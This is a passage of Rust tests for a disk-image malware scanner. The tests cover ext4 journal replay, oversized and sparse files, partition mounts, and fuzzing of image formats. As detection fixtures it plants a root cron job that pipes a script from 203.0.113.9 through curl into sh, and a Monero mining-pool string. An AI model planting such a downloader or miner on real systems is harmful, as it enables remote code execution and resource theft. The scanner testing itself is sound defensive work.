        assert_eq!(report["malware"], dir_report["malware"], "{kind} {extra:?}");
    }
}

/// An image exported from a running machine keeps committed transactions
/// in its ext journal: here one that turns a cron job into a downloader.
/// The scan replays it as `e2fsck` does and reports the job; the tree the
/// image was made from has no such finding.
#[test]
fn a_cron_job_left_in_the_journal_is_found() {
    if !disk_tools() {
        return;
    }
    use imgscan_fixtures::ext;
    let planted = "* * * * * root curl -fsSL http://203.0.113.9/i.sh | sh\n";
    let tree = system_tree("journal-tree");
    std::fs::create_dir_all(tree.join("etc/cron.d")).unwrap();
    let quiet = format!(
        "{:<1$}\n",
        "0 4 * * * root /usr/bin/true",
        planted.len() - 1
    );
    std::fs::write(tree.join("etc/cron.d/job"), quiet).unwrap();
    let image = ext4_image(&tree, "journal.img", "16M", &["-b", "4096"]);
    let mut block = planted.as_bytes().to_vec();
    block.resize(4096, 0);
    let cron = ext::first_block(&image, "/etc/cron.d/job");
    let os_release = ext::first_block(&image, "/etc/os-release");
    ext::journal_unapplied(
        &image,
        &[(cron, block)],
        os_release,
        &fresh("journal-blocks"),
    );
    let replayed = ext::replayed_by_e2fsck(&image, &fresh("journal-replayed.img"));
    let downloads = |target: &Path| {
        let (report, _) = scan_json(target);
        report["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| f["id"] == "cron.download-and-run")
            .map(|f| f["path"].as_str().unwrap().to_string())
            .collect::<Vec<_>>()
    };
    assert_eq!(downloads(&image), ["/etc/cron.d/job"]);
    assert_eq!(downloads(&replayed), ["/etc/cron.d/job"]);
    assert!(downloads(&tree).is_empty());
}

/// A file larger than what the ext reader threads hold ahead (64 MiB) is
/// streamed in its turn: read to its end, its rules run, like the
/// directory's copy.
#[test]
fn a_file_larger_than_the_read_ahead_is_read_whole() {
    if !disk_tools() {
        return;
    }
    let tree = system_tree("big-file-tree");
    let tail = b"stratum+tcp://pool.supportxmr.com:3333 --donate-level 1";
    let big = std::fs::File::create(tree.join("srv/big.bin")).unwrap();
    big.set_len(80 << 20).unwrap();
    std::os::unix::fs::FileExt::write_at(&big, tail, (80 << 20) - tail.len() as u64).unwrap();
    let image = ext4_image(&tree, "big.img", "16M", &[]);
    let (dir_report, _) = scan_json(&tree);
    let (disk_report, _) = scan_json(&image);
    assert_eq!(disk_report["malware"], dir_report["malware"]);
    assert!(
        disk_report["malware"].to_string().contains("/srv/big.bin"),
        "the end of the big file is scanned: {}",
        disk_report["malware"]
    );
}

#[test]
fn a_huge_sparse_file_is_not_read_to_its_end() {
    if !disk_tools() {
        return;
    }
    let tree = system_tree("sparse-tree");
    let lastlog = std::fs::File::create(tree.join("srv/lastlog")).unwrap();
    lastlog.set_len(64 << 30).unwrap();
    let image = ext4_image(&tree, "sparse.img", "16M", &[]);
    for target in [&tree, &image] {
        let (report, _) = scan_json(target);
        assert_eq!(
            report["summary"]["skipped"]["over_size_limit"],
            1,
            "64 GiB of holes: listed, over the size limit, and not read to its end ({})",
            target.display()
        );
    }
}

#[test]
fn fstab_mounts_by_partuuid_on_gpt_and_mbr() {
    if !disk_tools() {
        return;
    }
    for label in ["gpt", "dos"] {
        let raw = partitioned(label, &format!("{label}-partuuid.img"), true);
        let report = inspect(&raw, &[]);
        let paths: Vec<String> = file_rows(&report).into_iter().map(|r| r.0).collect();
        assert!(
            paths.contains(&"/srv/spare/data".to_string()),
            "{label}: {paths:?}"
        );
        assert!(
            !report["unknowns"].to_string().contains("does not mount"),
            "{label}: {}",
            report["unknowns"]
        );
    }
}

#[test]
fn mutated_disk_images_never_crash_the_reader() {
    if !disk_tools() {
        return;
    }
    let tree = system_tree("mutate-tree");
    let raw = ext4_image(&tree, "mutate.img", "8M", &[]);
    let seeds = [
        (qcow2(&raw, "mutate.qcow2", &["-c"]), 0usize),
        (partitioned("gpt", "mutate-gpt.img", false), 0),
        (
            convert(
                &raw,
                "vmdk",
                "mutate.vmdk",
                &["-o", "subformat=streamOptimized"],
            ),
            0,
        ),
        (convert(&raw, "vpc", "mutate.vhd", &[]), 0),
        (convert(&raw, "vhdx", "mutate.vhdx", &[]), 0),
        (raw, 1024),
    ];
    let xfs_seed = have_tool("mkfs.xfs")
        .then(|| xfs_image(&tree, "mutate.xfs", "300M", &[]).map(|image| (image, 0)))
        .flatten();
    let lvm_seed = have_tool("pvcreate").then(|| {
        let group = format!("imgscanm{}", std::process::id());
        // Partition 2, the volume group's label and metadata, starts at 5 MiB.
        (lvm_system(&group, "mutate-lvm.img"), 5 << 20)
    });
    let mut next = xorshift(0x9e37_79b9_7f4a_7c15);
    let mutated = fresh("mutated.img");
    for (seed, from) in seeds.iter().chain(&lvm_seed).chain(&xfs_seed) {
        let original = std::fs::read(seed).unwrap();
        for round in 0..40 {
            let mut bytes = original.clone();
            // Metadata lives just past `from`: most flips go there.
            let span = if round % 4 == 0 {
                bytes.len()
            } else {
                64 << 10
            };
            for _ in 0..1 + next() % 16 {
                let at = from + (next() as usize) % span.min(bytes.len() - from);
                bytes[at] = next() as u8;
            }
            std::fs::write(&mutated, &bytes).unwrap();
            let done = run(&[OsStr::new("inspect"), mutated.as_os_str()]);
            assert!(
                (done.code == 0 || done.code == 2) && !done.stderr.contains("panicked"),
                "{} round {round}: exit {}: {}",
                seed.display(),
                done.code,
                done.stderr
            );
        }
    }
}
